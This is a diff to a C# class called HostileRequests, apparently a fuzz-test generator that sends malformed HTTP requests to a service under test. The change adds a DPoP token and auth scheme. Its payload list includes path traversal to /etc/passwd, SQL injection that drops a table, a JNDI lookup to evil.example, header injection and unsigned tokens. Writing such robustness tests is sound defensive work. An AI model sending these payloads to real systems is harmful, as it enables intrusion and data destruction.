@@ -43,7 +43,7 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
         Marker, Marker + "<\"'>", "<script>" + Marker + "</script>", $"{Marker}\r\n{Injected}: 1", $"{Marker}%0d%0a{Injected}:%201", "é" + Marker, Marker + "\0", Marker + "%00",
         "../../../../etc/passwd", "..%2f..%2f", "' OR 1=1 --", "\"; DROP TABLE sessions; --", "{{7*7}}", "${jndi:ldap://evil.example}", "{0}{1}{999}", "%s%n%x", "%ff%fe", "%ED%A0%80",
         "\u00FF\u00FE", "\u00E2\u0080\u00AE", "\u00F0\u009F\u0098\u0080", "//evil.example", "https://evil.example/" + Marker, "/\\evil.example", "javascript:alert(1)",
-        "00000000-0000-0000-0000-000000000000", "td1_", "eyJhbGciOiJub25lIn0.e30.", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.AAAA", "AAAA-AAAA", "2026-99-99", "0001-01-01", "9999-12-31T23:59:59Z",
+        "00000000-0000-0000-0000-000000000000", "td1_", "eyJhbGciOiJub25lIn0.e30.", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.AAAA", "eyJ0eXAiOiJkcG9wK2p3dCIsImFsZyI6IkVTMjU2IiwiandrIjp7Imt0eSI6IkVDIiwiY3J2IjoiUC0yNTYiLCJ4IjoiIiwieSI6IiJ9fQ.e30.AAAA", "AAAA-AAAA", "2026-99-99", "0001-01-01", "9999-12-31T23:59:59Z",
         new('A', 200), new('%', 300), new('9', 400), string.Join(' ', Enumerable.Repeat("profile", 450)),
     ];
 
@@ -106,7 +106,7 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
         for (var count = random.Next(4); count > 0; count--)
             text.Append(Of(Headers, random)).Append(": ").Append(Header(random)).Append("\r\n");
         if (random.Next(6) == 0)
-            text.Append("Authorization: ").Append(random.Next(2) == 0 ? "Basic " + Convert.ToBase64String(Encoding.Latin1.GetBytes(Value(random) + ":" + Value(random))) : "Bearer " + Header(random)).Append("\r\n");
+            text.Append("Authorization: ").Append(random.Next(2) == 0 ? "Basic " + Convert.ToBase64String(Encoding.Latin1.GetBytes(Value(random) + ":" + Value(random))) : (random.Next(2) == 0 ? "Bearer " : "DPoP ") + Header(random)).Append("\r\n");
     }
 
     // Whether it is as long as it says.
